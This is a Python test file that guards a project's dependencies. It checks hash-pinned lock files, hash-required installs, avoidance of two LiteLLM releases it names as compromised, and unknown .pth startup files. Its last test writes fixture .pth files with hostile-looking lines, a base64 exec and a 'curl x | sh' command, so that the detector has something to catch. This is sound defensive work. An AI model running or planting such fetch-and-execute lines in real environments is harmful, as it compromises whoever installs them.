"""What `make` and the images install is what was reviewed: hash-pinned locks, and no unknown .pth file anywhere.

A .pth file in site-packages runs its `import` lines at every interpreter start, before any of our code: compromised
LiteLLM releases (1.82.7, 1.82.8) shipped one. So each .pth file the three environments hold must be one we know,
owned by the distribution we expect, and every lock must pin each package to files of known sha256.
"""

from __future__ import annotations

import fnmatch
import re
from importlib import metadata
from pathlib import Path
from typing import NamedTuple

import pytest

from eksflow.llm import engines

ROOT = Path(__file__).resolve().parents[2]
LOCKS = sorted([*(ROOT / "requirements").glob("*.txt"), *engines.LOCKS.glob("*.txt")])
INSTALLERS = [ROOT / "Makefile", *sorted((ROOT / "images").glob("*.Dockerfile"))]
# This checkout's environment, and the serving engines' (in the machine's engine cache, made by `make setup`).
ENVIRONMENTS = {".venv": ROOT / ".venv", **{f"engine {n}": engines.folder(e) for n, e in engines.ENGINES.items()}}
PIN = re.compile(r"^([A-Za-z0-9][A-Za-z0-9._-]*)==(\S+)((?:\s+--hash=sha256:[0-9a-f]{64})+)$")


class KnownPth(NamedTuple):
    """A .pth file we accept: who owns it (None: no distribution, `make` writes it), and its `import` lines."""

    owner: str | None
    imports: str  # regex every line starting with `import` must match in full ("" when none may)
    reason: str


KNOWN_PTH = {
    "distutils-precedence.pth": KnownPth(
        "setuptools",
        r"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os\.environ\.get\(var, 'local'\) == 'local'; "
        r"enabled and __import__\('_distutils_hack'\)\.add_shim\(\); ",
        "setuptools' shim that makes `import distutils` load setuptools' copy",
    ),
    "__editable__.eksflow-*.pth": KnownPth(
        "eksflow",
        r"import __editable___eksflow_[\w]+_finder; __editable___eksflow_[\w]+_finder\.install\(\)",
        "`pip install -e .` (PEP 660): the finder that maps `eksflow` to this checkout",
    ),
    "eksflow-checkout.pth": KnownPth(
        None,
        "",
        "the Makefile writes it: this checkout's folder on sys.path (its own pipelines/), a path, no code",
    ),
}


def lock_pins(path: Path) -> dict[str, str]:
    """`name -> version` of a lock's pins, hashed or not (test_every_lock_pins_each_package_by_hash checks that)."""
    pins = {}
    for line in logical_lines(path):
        match = re.match(r"([A-Za-z0-9][A-Za-z0-9._-]*)==(\S+)", line)
        if match:
            pins[match[1].lower()] = match[2]
    return pins


def logical_lines(path: Path) -> list[str]:
    """A requirements file's lines as pip reads them: continuations joined, comments and blank lines left out."""
    text = path.read_text(encoding="utf-8").replace("\\\n", " ")
    return [line.strip() for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")]


@pytest.mark.parametrize("lock", LOCKS, ids=lambda p: p.name)
def test_every_lock_pins_each_package_by_hash(lock):
    lines = logical_lines(lock)
    assert lines, f"{lock.relative_to(ROOT)} pins nothing"
    unhashed = [line[:80] for line in lines if not PIN.fullmatch(line)]
    assert unhashed == [], (
        f"{lock.relative_to(ROOT)}: lines that are not `name==version --hash=sha256:<hex>...`: {unhashed}; "
        f"run scripts/hash_locks.py {lock.relative_to(ROOT)}"
    )


def test_the_litellm_lock_never_pins_a_compromised_release():
    assert lock_pins(engines.ENGINES["litellm"].lock)["litellm"] not in ("1.82.7", "1.82.8")


@pytest.mark.parametrize("installer", INSTALLERS, ids=lambda p: p.name)
def test_every_install_of_a_lock_requires_hashes(installer):
    text = installer.read_text().replace("\\\n", " ")
    installs = [line for line in text.splitlines() if re.search(r"pip\b.*\binstall\b.*\s-r\s+\S+", line)]
    weak = [line.strip() for line in installs if "--require-hashes" not in line or "--no-deps" not in line]
    assert weak == [], f"{installer.relative_to(ROOT)} installs a lock without --no-deps --require-hashes: {weak}"
    locks = {p.name for p in LOCKS}
    named = {Path(path).name for path in re.findall(r"\s-r\s+(\S+)", text)}
    assert named <= locks, f"{installer.relative_to(ROOT)} installs locks that are neither steps' nor engines' locks"


def owners(site_packages: Path) -> dict[str, str]:
    """Top-level file name -> the distribution whose RECORD lists it."""
    found = {}
    for dist in metadata.distributions(path=[str(site_packages)]):
        for file in dist.files or ():
            if len(file.parts) == 1:
                found[file.name] = dist.metadata["Name"]
    return found


def pth_problems(site_packages: Path, environment: str) -> list[str]:
    """What is wrong with the .pth files of one site-packages folder: unknown, owned by another, running odd code."""
    problems = []
    owned = owners(site_packages)
    for pth in sorted(site_packages.glob("*.pth")):
        owner = owned.get(pth.name)
        known = next((k for pattern, k in KNOWN_PTH.items() if fnmatch.fnmatch(pth.name, pattern)), None)
        where = f"{environment}/{pth.relative_to(site_packages.parents[2])}"
        if known is None:
            problems.append(f"{where} (from {owner or 'no distribution'}) is not a known .pth file")
            continue
        if owner != known.owner:
            problems.append(f"{where} belongs to {owner or 'no distribution'}, expected {known.owner or 'none'}")
        imports = [line for line in pth.read_text().splitlines() if line.startswith(("import ", "import\t"))]
        odd = [line[:120] for line in imports if not (known.imports and re.fullmatch(known.imports, line))]
        if odd:
            problems.append(f"{where} (from {owner or 'no distribution'}) runs code we do not know: {odd}")
    return problems


@pytest.mark.parametrize("environment", ENVIRONMENTS)
def test_no_environment_holds_an_unknown_pth_file(environment):
    folders = sorted(ENVIRONMENTS[environment].glob("lib/python3*/site-packages"))
    if not folders:
        pytest.skip(f"{environment} does not exist here (make setup creates it): no installed file to check")
    problems = [problem for folder in folders for problem in pth_problems(folder, environment)]
    assert problems == [], "; ".join(problems) + " (review it; a known one goes in KNOWN_PTH with its reason)"


def test_the_check_names_the_distribution_of_an_unknown_or_tampered_pth_file(tmp_path):
    site_packages = tmp_path / "lib" / "python3.11" / "site-packages"
    for name, version, pth, code in [
        ("litellm", "1.82.8", "litellm_init.pth", "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))"),
        ("setuptools", "80.0.0", "distutils-precedence.pth", "import os; os.system('curl x | sh')"),
    ]:
        (site_packages / pth).parent.mkdir(parents=True, exist_ok=True)
        (site_packages / pth).write_text(code + "\n")
        info = site_packages / f"{name}-{version}.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        (info / "RECORD").write_text(f"{pth},,\n{info.name}/METADATA,,\n{info.name}/RECORD,,\n")
    (site_packages / "eksflow-checkout.pth").write_text("/somewhere\nimport os\n")
    assert pth_problems(site_packages, ".venv-x") == [
        ".venv-x/lib/python3.11/site-packages/distutils-precedence.pth (from setuptools) runs code we do not know: "
        "[\"import os; os.system('curl x | sh')\"]",
        ".venv-x/lib/python3.11/site-packages/eksflow-checkout.pth (from no distribution) runs code we do not know: "
        "['import os']",
        ".venv-x/lib/python3.11/site-packages/litellm_init.pth (from litellm) is not a known .pth file",
    ]
